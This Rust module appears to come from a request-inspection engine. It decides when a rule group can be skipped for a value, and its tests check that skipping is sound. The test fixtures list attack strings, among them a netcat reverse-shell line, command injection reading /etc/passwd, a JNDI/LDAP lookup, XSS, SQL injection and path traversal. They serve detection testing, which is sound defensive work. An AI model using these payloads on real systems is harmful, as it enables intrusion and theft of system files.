//! Quiet per family: what a value must hold before a rule group can match
//! it, decided once at load. A group is skipped for a value holding none of
//! its automata's gate bytes and literals, none of its detectors' trigger
//! bytes and literals and none of the bytes that make a step of its
//! decoding chain change anything but ASCII case: then the chain's value is
//! the raw value up to case, and the raw value's one byte set and one
//! literal scan answer every question the group would ask.

use super::prefilter::{BitMask, ByteSet};
use crate::detect::Detector;
use crate::transform::Transform;

/// What a value must hold for a group to run on it (`Group::skip`): one of
/// `bytes`, a literal of a gate bit in `lits`, or (when `spaces`) two
/// blanks in a row.
#[derive(Debug, Clone)]
pub(crate) struct Skip {
    pub bytes: ByteSet,
    pub lits: BitMask,
    /// A step of the chain folds runs of blanks.
    pub spaces: bool,
    /// A step of the chain (`base64`) may change a value made only of
    /// its alphabet: the group is skipped only for a value holding one of
    /// `BASE64_BLOCKERS`.
    pub decodes_base64: bool,
}

impl Skip {
    /// What a value must hold for any group of a list to run: the union
    /// of their skips (bytes, literal bits, blanks), `None` when one of
    /// them has none (it may run on any value). Sound by construction: a
    /// value that `cannot_match` the union holds none of any group's bytes
    /// and literals, no two blanks in a row if a group folds them, and a
    /// base64 blocker if a group decodes base64 (`decodes_base64`: the one
    /// set `BASE64_BLOCKERS` for every such group) — so each group's own
    /// test would skip it too, and skipping the list at once changes
    /// nothing but the cost (one test instead of one per group).
    pub(crate) fn union<'a>(skips: impl IntoIterator<Item = Option<&'a Skip>>) -> Option<Skip> {
        let mut all = Skip {
            bytes: ByteSet::default(),
            lits: BitMask::default(),
            spaces: false,
            decodes_base64: false,
        };
        for s in skips {
            let s = s?;
            all.bytes.union(&s.bytes);
            all.lits = all.lits.union(&s.lits);
            all.spaces |= s.spaces;
            all.decodes_base64 |= s.decodes_base64;
        }
        Some(all)
    }
}

/// Bytes no value `base64` decodes holds: anything but its two alphabets,
/// padding and the blanks trimmed from the ends (`transform::base64::
/// decode_plain` reads a value only when every byte between the trimmed
/// ends is one of those).
pub(crate) const BASE64_BLOCKERS: ByteSet = base64_blockers();

const fn base64_blockers() -> ByteSet {
    let mut s = [0u64; 4];
    let mut b = 0usize;
    while b < 256 {
        let c = b as u8;
        let kept = c.is_ascii_alphanumeric()
            || matches!(
                c,
                b'+' | b'/' | b'-' | b'_' | b'=' | b' ' | b'\t' | b'\n' | b'\r'
            )
            || c == 0x0b
            || c == 0x0c;
        if !kept {
            s[b >> 6] |= 1 << (b & 63);
        }
        b += 1;
    }
    ByteSet(s)
}

/// Literals a detector needs (one of them, ASCII case ignored), besides
/// its trigger bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum TriggerLits {
    None,
    /// Its anchors (`Detector::anchors`), under their bit of the scan.
    Anchors,
    /// Literals of their own, under a bit the compiler adds for them.
    Own(&'static [&'static str]),
}

/// What a detector needs before it can report: a value holding none of
/// `bytes` and none of `lits` makes it return nothing, whatever the case
/// of its letters (no letter is a trigger byte). `None`: it may report on
/// any value. Each set is read off the detector's own first checks
/// (`quiet::tests` holds every detector to it on seeded values).
pub(crate) fn detector_trigger(d: Detector) -> Option<(ByteSet, TriggerLits)> {
    // `0x2e`, `0x2f`, `0x5c` spell a dot or a separator to the path reader.
    const HEX: TriggerLits = TriggerLits::Own(&["0x"]);
    Some(match d {
        // SQL punctuation, else one of its keywords (`sqli::detect_with`):
        // tighter than its trigger set, which holds the blanks too.
        Detector::Sqli => (set(b"'\"()=<>;#-/*|&@`", false), TriggerLits::Anchors),
        // A separator, an escape or a non-ASCII look-alike (`worth_reading`),
        // or the hex spelling `0x` (its trigger set holds the digit `0`).
        Detector::Path => (set(b"/\\%", true), HEX),
        // A climb needs dot, wildcard or junk units.
        Detector::PathClimb => {
            let mut s = set(b".?*%\x7f", true);
            (0..0x20).for_each(|b| s.insert(b));
            (s, HEX)
        }
        // Only a `_charset_` field, which the engine never skips.
        Detector::FormCharset => (ByteSet::default(), TriggerLits::None),
        // A token starts `ey` or `ew` (`detect::jose`, `jose_head`): the
        // literals, not the dot every e-mail address and host name holds,
        // call it.
        Detector::Jwt(_) => (ByteSet::default(), TriggerLits::Own(&["ey", "ew"])),
        // The detector's own trigger set (`Detector::triggers`).
        other => (ByteSet(other.triggers()?.bits()), TriggerLits::None),
    })
}

/// Bytes that make `step` change a value in more than ASCII case, and
/// whether it folds two blanks in a row; `None`: no short answer.
fn step_changes(step: Transform) -> Option<(ByteSet, bool)> {
    Some(match step {
        Transform::Lowercase => (ByteSet::default(), false),
        Transform::CompressWhitespace => (set(b"\t\n\r\x0b\x0c\xa0", false), true),
        // Quotes, carets, escapes, `$IFS`/`$@`, tab, CR and `+` are
        // rewritten; blanks folded; the rest only lowercased.
        Transform::CmdLine => (set(b"'\"^\\$\t\r+", false), true),
        Transform::Base64 => return None,
        other => (set(other.trigger_bytes()?, false), false),
    })
}

/// `bytes`, and every non-ASCII byte if `high`.
fn set(bytes: &[u8], high: bool) -> ByteSet {
    let mut s = ByteSet::default();
    bytes.iter().for_each(|&b| s.insert(b));
    if high {
        (0x80..=0xff).for_each(|b| s.insert(b));
    }
    s
}

/// What `group_skip` reads of a rule group (`compile::Group`), passed in
/// parts so that this module does not import the compiler that calls it:
/// each rule set's gate (its bytes and literal bit; `None` for an ungated
/// set), the phrases' literal bit, and the group's detectors.
pub(super) struct GroupParts<'a, G> {
    pub gates: G,
    pub phrase_bit: Option<usize>,
    pub detectors: &'a [(Detector, usize)],
}

/// `Group::skip` for `g` after `chain`: `None` when something of the group
/// may run on any value (an ungated automaton, a detector without a
/// trigger set, a chain step without a short trigger list).
/// `lit_bit(d, lits)` is the gate bit of a detector's trigger literals.
pub(super) fn group_skip<'a>(
    g: GroupParts<'a, impl Iterator<Item = Option<(&'a ByteSet, Option<usize>)>>>,
    chain: &[Transform],
    gate_bits: usize,
    lit_bit: impl Fn(Detector, TriggerLits) -> Option<usize>,
) -> Option<Skip> {
    let mut s = Skip {
        bytes: ByteSet::default(),
        lits: BitMask::default(),
        spaces: false,
        decodes_base64: false,
    };
    let mut words = vec![0u64; gate_bits.div_ceil(64)];
    let bit = |lits: &mut Vec<u64>, b: usize| lits[b / 64] |= 1 << (b % 64);
    for &step in chain {
        if step == Transform::Base64 {
            // Unchanged on a value holding a blocker; the steps before it
            // leave such a value as it is up to case (their changing bytes
            // are in `bytes`), and case does not make a blocker.
            s.decodes_base64 = true;
            continue;
        }
        let (bytes, spaces) = step_changes(step)?;
        s.bytes.union(&bytes);
        s.spaces |= spaces;
    }
    for gate in g.gates {
        let (bytes, lits) = gate?;
        s.bytes.union(bytes);
        if let Some(b) = lits {
            bit(&mut words, b);
        }
    }
    if let Some(b) = g.phrase_bit {
        bit(&mut words, b);
    }
    for &(d, _) in g.detectors {
        let (bytes, lits) = detector_trigger(d)?;
        s.bytes.union(&bytes);
        if lits != TriggerLits::None {
            bit(&mut words, lit_bit(d, lits)?);
        }
    }
    // Letters are never trigger bytes: a value's case does not matter.
    debug_assert!(!(b'A'..=b'z').any(|b| b.is_ascii_alphabetic() && s.bytes.contains(b)));
    s.lits = BitMask::from_words(&words);
    Some(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::transform::apply_chain;

    /// Seeded values over every byte outside `bytes`, with runs of the
    /// letters, digits and blanks ordinary text and attacks share.
    fn values_without(bytes: &ByteSet, seed: u64, n: usize) -> Vec<Vec<u8>> {
        let allowed: Vec<u8> = (0..=255u8).filter(|&b| !bytes.contains(b)).collect();
        let words: &[&[u8]] = &[
            b"union",
            b"SELECT",
            b"or",
            b"1",
            b"script",
            b"alert",
            b"onerror",
            b"javascript",
            b"cat",
            b"etc",
            b"passwd",
            b"jndi",
            b"ldap",
            b"0x2e",
            b"0X2F",
            b"id",
            b"wget",
            b"http",
            b" ",
            b"  ",
            b"\t",
            b"${jndi:ldap://x/a}",
            b"<script>alert(1)</script>",
            b"' or 1=1--",
            b"\" or \"1\"=\"1",
            b";id;",
            b"|cat /etc/passwd",
            b"$(id)",
            b"`id`",
            b"../../etc/passwd",
            b"..\\..\\boot.ini",
            b"javascript:alert(1)",
            b"onerror=alert(1)",
            b"<a href=//x.example/>",
            b"background:url(//x/p.png)",
            b"wget --quiet -O x",
            b"nc -e /bin/sh 10.0.0.1",
            b"\\x3bid",
            b"%2e%2e%2f",
            b"0x2e0x2e0x2f",
            b"\r\nX: y",
            b"1 union select 2",
            b"order by 3",
            b"alert`1`",
            b"top.location='//x'",
        ];
        let mut x = seed;
        (0..n)
            .map(|_| {
                let len = (crate::test_support::xorshift(&mut x) % 24) as usize;
                let mut v = Vec::new();
                for _ in 0..len {
                    let r = crate::test_support::xorshift(&mut x);
                    if r.is_multiple_of(3) {
                        v.extend_from_slice(words[(r >> 8) as usize % words.len()]);
                    } else {
                        v.push(allowed[(r >> 8) as usize % allowed.len()]);
                    }
                }
                v.retain(|b| !bytes.contains(*b));
                v
            })
            .collect()
    }

    /// Every detector finds nothing in a value without its trigger bytes
    /// and literals (in any case).
    #[test]
    fn detectors_find_nothing_without_their_triggers() {
        use crate::detect::test_support::{all, hit_when};
        for (k, d) in all().into_iter().enumerate() {
            // A detector without a trigger set is never skipped.
            let Some((bytes, lits)) = detector_trigger(d) else {
                continue;
            };
            let lits: &[&str] = match lits {
                TriggerLits::None => &[],
                TriggerLits::Anchors => d.anchors(),
                TriggerLits::Own(l) => l,
            };
            let mut tried = 0;
            for v in values_without(&bytes, 0x7e57_0000 + k as u64, 40_000) {
                let lower = v.to_ascii_lowercase();
                let holds = |l: &&str| lower.windows(l.len()).any(|w| w == l.as_bytes());
                if lits.iter().any(holds) {
                    continue;
                }
                tried += 1;
                // Called as the engine calls it (`detect_field`; no keyword
                // anchor in the value, so the literal scan answers no).
                assert!(
                    !hit_when(d, &v, false),
                    "{d:?} fired without its triggers on {:?}",
                    String::from_utf8_lossy(&v)
                );
            }
            assert!(tried > 1_000, "{d:?}: {tried}");
        }
    }

    /// A value holding none of a chain's changing bytes (nor two blanks in
    /// a row when a step folds them) comes out of every chain of the
    /// built-in rules equal to itself up to ASCII case; with a `base64`
    /// step, when it also holds one of `BASE64_BLOCKERS`.
    #[test]
    fn chains_change_only_case_without_their_changing_bytes() {
        let rs = crate::RuleSet::builtin().unwrap();
        let blockers: Vec<u8> = BASE64_BLOCKERS.iter().collect();
        let mut base64_chains = 0;
        for (k, chain) in rs.compiled.chains.iter().enumerate() {
            let base64 = chain.contains(&Transform::Base64);
            base64_chains += usize::from(base64);
            let Some(steps) = chain
                .iter()
                .filter(|&&t| t != Transform::Base64)
                .map(|&t| step_changes(t))
                .collect::<Option<Vec<_>>>()
            else {
                continue;
            };
            let mut bytes = ByteSet::default();
            steps.iter().for_each(|(b, _)| bytes.union(b));
            let spaces = steps.iter().any(|s| s.1);
            let mut x = 0xb10c_0000 + k as u64;
            let mut values = values_without(&bytes, 0xc4a1_0000 + k as u64, 3_000);
            if base64 {
                // Base64 text and its decodings, then one blocker put in.
                for w in [
                    &b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="[..],
                    b"JyBPUiAnMSc9JzE=",
                    b"Y2F0IC9ldGMvcGFzc3dk",
                    b"dW5pb24gc2VsZWN0IDEsMiwz",
                ] {
                    values.push(w.to_vec());
                }
                for v in &mut values {
                    let r = crate::test_support::xorshift(&mut x) as usize;
                    let b = blockers[r % blockers.len()];
                    if !bytes.contains(b) {
                        v.insert((r >> 16) % (v.len() + 1), b);
                    }
                }
                // JSON Web Tokens of text claims: `.` is a blocker.
                values.push(
                    b"eyJhbGciOiJub25lIn0.eyJuIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9.".to_vec(),
                );
                values.push(b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiInIG9yIDE9MS0tIn0.c2ln".to_vec());
            }
            for v in values {
                if spaces && v.windows(2).any(|w| w == b"  ") {
                    continue;
                }
                if base64 && !BASE64_BLOCKERS.intersects(&ByteSet::of(&v)) {
                    continue;
                }
                let out = apply_chain(chain, &v);
                assert!(
                    out.eq_ignore_ascii_case(&v),
                    "{chain:?} changed {v:?} to {out:?}"
                );
            }
        }
        assert!(base64_chains > 0);
    }

    /// Base64 text without a blocker is decoded (the blockers are what
    /// keeps a value as it is, not its length or alphabet alone).
    #[test]
    fn base64_blockers_are_the_bytes_that_stop_decoding() {
        let text = b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
        assert!(Transform::Base64.apply(text).is_some());
        for b in 0..=255u8 {
            let mut v = text.to_vec();
            v.insert(8, b);
            let decoded = Transform::Base64.apply(&v).is_some();
            if BASE64_BLOCKERS.contains(b) {
                assert!(!decoded, "{b:#x}");
            }
        }
        // Not blockers: the alphabets, padding, blanks.
        for b in b"aZ09+/-_= \t" {
            assert!(!BASE64_BLOCKERS.contains(*b));
        }
    }
}
